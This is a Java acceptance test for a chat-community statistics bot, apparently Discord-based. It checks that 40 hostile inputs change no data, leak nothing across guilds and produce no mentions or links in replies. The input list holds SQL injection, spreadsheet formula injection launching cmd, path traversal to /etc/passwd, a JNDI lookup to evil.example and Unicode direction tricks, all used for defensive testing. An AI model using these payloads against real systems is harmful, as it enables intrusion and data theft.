package dev.guildhouse.schedules.commands.desk;

import static dev.guildhouse.schedules.commands.desk.CommandGuild.ADMIN;
import static dev.guildhouse.schedules.commands.desk.CommandGuild.MODERATORS;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.guildhouse.collector.fake.FakeInteraction;
import dev.guildhouse.schedules.operations.Engine;
import dev.guildhouse.schedules.operations.kpis.KpiTargets;
import dev.guildhouse.schedules.operations.subscriptions.ReportSubscription;
import dev.guildhouse.schedules.operations.subscriptions.ReportSubscriptions;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** What people write to break things changes nothing, and nothing of others comes back. */
@Tag("acceptance")
class HostileInputIT {
  private static final String LONG = "x".repeat(6_000);

  /** 40 of them. */
  private static final List<String> HOSTILE = List.of(
      "@everyone",
      "@here come",
      "<@310000000000000033>",
      "<@&5002>",
      "<#88>",
      "[click](https://evil.example/)",
      "<https://evil.example/>",
      "https://evil.example/a?b=c",
      "||spoiler|| **bold** `code`",
      "```\n@everyone\n```",
      "# Heading\n> quote",
      "=HYPERLINK(\"https://evil.example\")",
      "=1+1",
      "+1-1",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "'; DROP TABLE kpi_targets; --",
      "1 OR 1=1",
      "x' UNION SELECT * FROM events --",
      "1); DELETE FROM runs; --",
      "guild_id = 0 OR true",
      "../../etc/passwd",
      "/etc/passwd",
      "..\\..\\windows",
      "file:///etc/passwd",
      "C:\\secrets",
      "a\u0000b",
      "\u202Etxet desrever",
      "\u2066isolate\u2069",
      "\u200B",
      "\uD83D",
      "😀".repeat(300),
      "0",
      "-1",
      "99999999999999999999999",
      "NaN",
      "${jndi:ldap://evil.example/a}",
      "%s%s%s%n {0} $1",
      LONG);

  @Test
  void nothingChangesAndNothingLeaks() throws IOException {
    CommandGuild.Filled filled = CommandGuild.filled();
    assertThat(HOSTILE).hasSize(40).doesNotHaveDuplicates();
    try (CommandGuild at = new CommandGuild(filled, Engine.H2, () -> {})) {
      List<String> before = files(filled.home());
      List<FakeInteraction> given = new ArrayList<>();
      for (String text : HOSTILE) {
        given.add(at.give(ADMIN, MODERATORS, "stats", Map.of("range", text)));
        given.add(at.give(ADMIN, MODERATORS, "activity analyze channel", Map.of("channel", text)));
        given.add(at.give(ADMIN, MODERATORS, "export", Map.of("type", text)));
        given.add(at.give(ADMIN, MODERATORS, "kpi set", Map.of("metric", text, "target", "1")));
        given.add(at.give(ADMIN, MODERATORS, "kpi remove", Map.of("id", text)));
        given.add(
            at.give(ADMIN, MODERATORS, "reports schedule", reports("weekly_community", text)));
        given.add(at.give(ADMIN, MODERATORS, "reports schedule", reports(text, "77")));
        given.add(at.give(ADMIN, MODERATORS, "reports cancel", reports(text, text)));
        given.add(at.give(ADMIN, MODERATORS, "serverstats trends", Map.of("metric", text)));
        given.add(at.give(ADMIN, MODERATORS, "userstats report", Map.of("type", text)));
        // One after the other, so that none is turned away for being one of too many.
        given.subList(given.size() - 10, given.size()).forEach(FakeInteraction::answer);
      }
      for (FakeInteraction one : given) {
        JsonNode answer = one.answer().payload();
        for (String said : said(answer)) {
          assertThat(said.length()).isLessThanOrEqualTo(6_000);
          assertThat(said)
              .doesNotContain("@everyone", "@here", "://evil")
              .doesNotContainPattern("(?<!\\\\)\\]\\(http")
              .doesNotContainPattern("(?<!\\\\)<[@#]")
              .doesNotContain("\u202E", "\u2066", filled.home().toString(), "root:");
        }
        assertThat(answer.path("allowed_mentions").path("parse")).isEmpty();
      }
      assertThat(new KpiTargets(at.database).ofGuild(filled.guild())).isEmpty();
      // <#88> is how a channel is written, and this one is the guild's own.
      assertThat(new ReportSubscriptions(at.database).ofGuild(filled.guild()))
          .extracting(ReportSubscription::channelId)
          .containsExactly(MODERATORS);
      assertThat(files(filled.home())).isEqualTo(before);
    }
  }

  private static Map<String, String> reports(String report, String channel) {
    return Map.of("type", report, "channel", channel);
  }

  /** Ids of another guild are as good as ids of nothing. */
  @Test
  void anotherGuildsIdsTellNothing() throws IOException {
    CommandGuild.Filled filled = CommandGuild.filled();
    try (CommandGuild at = new CommandGuild(filled, Engine.H2, () -> {})) {
      String nothing = "123456789012345678";
      String foreign = Long.toString(filled.otherChannel());
      assertThat(activity(at, foreign).replace(foreign, nothing))
          .isEqualTo(activity(at, nothing))
          .isNotEqualTo(activity(at, filled.channel()).replace(filled.channel(), nothing));
      FakeInteraction export =
          at.give(ADMIN, MODERATORS, "export", Map.of("type", "guild_weekly", "range", "2026-W09"));
      assertThat(export.answer().files()).hasSize(1);
      assertThat(export.answer().files().get(0).content().utf8())
          .contains(Long.toString(filled.guild()))
          .doesNotContain(Long.toString(filled.other()));
    }
  }

  private static String activity(CommandGuild at, String channel) {
    return said(at.give(
                ADMIN,
                MODERATORS,
                "activity analyze channel",
                Map.of("channel", channel, "range", "2026-W09"))
            .answer()
            .payload())
        .toString();
  }

  /** Every text that people would see. */
  private static List<String> said(JsonNode answer) {
    List<String> said = new ArrayList<>();
    said.add(answer.path("content").asText());
    for (JsonNode embed : answer.path("embeds")) {
      said.add(embed.path("title").asText());
      said.add(embed.path("description").asText());
      embed.path("fields").forEach(field -> {
        said.add(field.path("name").asText());
        said.add(field.path("value").asText());
      });
    }
    return said;
  }

  /** The files of the tables. */
  private static List<String> files(Path home) throws IOException {
    try (Stream<Path> files = Files.walk(home.resolve("warehouse"))) {
      return files
          .filter(file -> !file.toString().contains("readers"))
          .map(Path::toString)
          .sorted()
          .toList();
    }
  }
}
